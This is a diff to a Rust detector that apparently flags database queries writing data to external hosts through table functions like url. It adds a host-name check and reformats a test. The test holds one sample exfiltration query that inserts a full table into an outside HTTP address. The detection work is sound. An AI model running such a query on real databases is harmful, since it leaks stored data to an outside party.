@@ -136,17 +136,32 @@ pub(crate) fn judge(key: &GroupKey, g: &Group, _s: &Settings) -> Option<Verdict>
             describe_client(key, g.client_class),
             targets.join(", ")
         ),
-        assumptions: if g
-            .targets
-            .iter()
-            .any(|t| t.contains('→') && !t.starts_with("file"))
-        {
+        assumptions: if g.targets.iter().any(|t| names_a_host(t)) {
             vec!["destinations are read from the query text; host names are not resolved and count as external".to_owned()]
         } else {
             Vec::new()
         },
         extra_metrics: Vec::new(),
     })
+}
+
+/// Whether a `fn → destination (dir)` target names a host by name rather than address.
+fn names_a_host(target: &str) -> bool {
+    let Some((func, rest)) = target.split_once(" → ") else {
+        return false;
+    };
+    let dest = rest.rsplit_once(" (").map_or(rest, |(d, _)| d);
+    !matches!(
+        func,
+        "file"
+            | "filecluster"
+            | "filesystem"
+            | "sqlite"
+            | "executable"
+            | "cluster"
+            | "clusterallreplicas"
+    ) && dest.parse::<IpAddr>().is_err()
+        && !dest.eq_ignore_ascii_case("localhost")
 }
 
 #[cfg(test)]
@@ -168,7 +183,10 @@ mod tests {
         let e = event("alice", "10.0.0.2", "INSERT INTO FUNCTION url('http://203.0.113.9:8000/x', 'TSV', 'a String') SELECT * FROM t", 0);
         assert_eq!(
             finding(e),
-            Some((Severity::Critical, vec!["url → 203.0.113.9 (write)".to_owned()]))
+            Some((
+                Severity::Critical,
+                vec!["url → 203.0.113.9 (write)".to_owned()]
+            ))
         );
     }
 
